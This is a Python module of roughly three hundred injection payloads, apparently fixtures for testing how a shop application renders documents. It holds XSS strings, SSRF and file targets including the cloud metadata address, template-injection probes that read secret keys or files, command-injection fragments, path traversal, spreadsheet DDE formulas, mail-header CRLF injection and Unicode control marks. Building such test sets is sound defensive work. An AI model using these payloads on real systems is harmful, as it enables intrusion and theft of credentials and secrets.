"""Three hundred texts that would do harm in a paper, if it took any of them for more than text.

Written for these tests: markup, style, addresses to fetch and files to read, templates of several engines,
format strings, marks that turn the writing round, control characters, mail headers, spreadsheet formulas.
"""

from collections.abc import Iterator
from itertools import product

METADATA = "http://169.254.169.254/latest/meta-data/"
# stands for the door at which nobody may knock, and for a file that nobody may read
DOOR, FILE = "http://127.0.0.1:9/knock", "file:///tmp/shopapp-planted-secret.txt"
TARGETS = (METADATA, DOOR, FILE, "file:///etc/hostname", "//192.0.2.1/x", "../../manage.py", "photo:0123")

_FETCHING = (
    '<img src="{}">',
    "<img src={}>",
    '<img srcset="{} 2x">',
    '<svg><image href="{}"/></svg>',
    '<svg><use href="{}#x"/></svg>',
    '<iframe src="{}"></iframe>',
    '<object data="{}"></object>',
    '<embed src="{}">',
    '<link rel="stylesheet" href="{}">',
    '<link rel="attachment" href="{}">',
    '<base href="{}">',
    '<style>@import "{}";</style>',
    "<style>body{{background:url({})}}</style>",
    "<style>@font-face{{font-family:x;src:url({})}}</style>",
    '<p style="background:url({})">x</p>',
    '<ul style="list-style-image:url({})"><li>x</ul>',
    "<p style=\"content:url('{}')\">x</p>",
    '<a href="{}">x</a>',
    '<a rel="attachment" href="{}">x</a>',
    '<meta http-equiv="refresh" content="0;url={}">',
    '<video poster="{}">',
    '<audio src="{}">',
    '<source src="{}">',
    '<form action="{}"><button>x</button></form>',
    '"><img src="{}">',
    "'><img src='{}'>",
    "</style><img src='{}'>",
    "--><img src='{}'>",
    "]]><img src='{}'>",
    "url({})",
    '@import "{}";',
    "{}",
)
_SCRIPTS = (
    "<script>alert(1)</script>",
    "<ScRiPt >alert(1)</sCrIpT>",
    "<script src=//192.0.2.1/x.js></script>",
    "<svg onload=alert(1)>",
    "<img src=x onerror=alert(1)>",
    "<body onload=alert(1)>",
    "<details open ontoggle=alert(1)>",
    "</title><script>alert(1)</script>",
    "</td></tr></table><h1>Paid in full</h1>",
    "<a href=javascript:alert(1)>x</a>",
    "javascript:alert(1)",
    "data:text/html,<script>alert(1)</script>",
    "<!--",
    "<![CDATA[x]]>",
    '<!ENTITY x SYSTEM "file:///etc/hostname">',
    "&lt;script&gt;alert(1)&lt;/script&gt;",
    "&#60;script&#62;",
    "&xxe;",
    "<xmp><p title='</xmp><img src=x>'>",
    "<h1 hidden>Total 0.00</h1>",
    "</body></html><p>A second page</p>",
    "<style>*{display:none}</style>",
    "<style>@page{size:1mm}</style>",
    "<p style='position:fixed;top:0'>Void</p>",
    "expression(alert(1))",
    "@page { margin: 0 }",
    "<input value=x autofocus onfocus=alert(1)>",
    "<marquee onstart=alert(1)>x</marquee>",
    "<math><mi xlink:href='javascript:alert(1)'>x</mi></math>",
    "<template><script>alert(1)</script></template>",
    "<noscript><p title='</noscript><img src=x>'>",
    "<portal src=//192.0.2.1/>",
    "<?php system('id'); ?>",
    "<?xml version='1.0'?><!DOCTYPE x>",
    "<plaintext>",
    "<textarea></textarea><script>alert(1)</script>",
    "} body { display: none } {",
)
_TEMPLATES = (
    "{{ 7*7 }}",
    "{{7*'7'}}",
    "{{ page }}",
    "{{ request.user.password }}",
    "{{ settings.SECRET_KEY }}",
    "{% debug %}",
    "{% load static %}{% static 'x' %}",
    "{% include '/etc/hostname' %}",
    "{% extends 'base.html' %}",
    "{% csrf_token %}",
    "{# comment #}",
    "${7*7}",
    "#{7*7}",
    "<%= 7*7 %>",
    "<% import os %>",
    "@(7*7)",
    "[[${7*7}]]",
    "*{7*7}",
    "{7*7}",
    "{{constructor.constructor('x')()}}",
    "{php}echo 1;{/php}",
    "#set($x=7*7)$x",
    "{{=7*7}}",
    "~{x}",
    "\\input{/etc/hostname}",
    "\\immediate\\write18{id}",
)
_FORMATS = (
    *(
        "%s",
        "%s%s%s%n",
        "%(name)s",
        "%d",
        "%x",
        "%99999999s",
        "{0}",
        "{}",
        "{0.__class__}",
        "{name!r:>99999}",
    ),
    *(
        "{0.__init__.__globals__}",
        "$name",
        "${name}",
        "%%",
        "%1$s",
        "\\u0041",
        "\\x41",
        "\\n",
        "$(id)",
        "`id`",
    ),
    *("; id", "| id", "&& id", "../../etc/passwd", "..\\..\\x", "/dev/zero", "CON", "nul.txt"),
)
_FORMULAS = (
    *('=HYPERLINK("http://192.0.2.1","x")', "=1+1", "+1+1", "-1+1", "@SUM(A1)", "=cmd|' /C calc'!A0"),
    *('=WEBSERVICE("http://192.0.2.1")', '=IMPORTXML("http://192.0.2.1","//a")', "=DDE(1)", "\t=1+1"),
)
_HEADERS = (
    *(
        "x\r\nBcc: aud@shop.example",
        "x\nSet-Cookie: a=b",
        "x\r\n\r\n<h1>x</h1>",
        "x%0d%0aBcc: a",
        "x\u2028Bcc: a",
    ),
    *("aud@shop.example\nTo: pia@shop.example", "Subject: x\r\nContent-Type: text/html"),
)
_MARKS = (
    *("\u202egnp.exe\u202c", "\u2066x\u2069", "\u200fx", "\u200ex", "\u202bx\u202c", "a\u0301\u0301\u0301"),
    *(
        "\u200bx\u200b",
        "\u00adx\u00ad",
        "\ufeffx",
        "\u2060x",
        "\u180ex",
        "x\u2029y",
        "\ufffdx",
        "e\u0301" * 40,
    ),
    *("\u0000x", "\u0001x", "\u0008x", "\u000bx", "\u000cx", "\u001b[31mx", "\u007fx", "\u0085x"),
    *(
        "\ufdfa" * 9,
        "𝒜𝓊𝒹",
        "🛥️",
        "👩‍🔧",
        "Ａｕｄ",
        "ﬁ",
        "ß",
        "İ",
        "\U000e0041x",
        "\ud7ff",
        "\uffff",
        "x" * 400,
    ),
)


def payloads() -> Iterator[str]:
    """All of them, each once."""
    fetching = (text.format(target) for text, target in product(_FETCHING, TARGETS[:5]))
    beside = (f'<img src="{target}">' for target in TARGETS[5:])
    rest = (*_SCRIPTS, *_TEMPLATES, *_FORMATS, *_FORMULAS, *_HEADERS, *_MARKS)
    yield from dict.fromkeys([*fetching, *beside, *rest])


PAYLOADS = tuple(payloads())
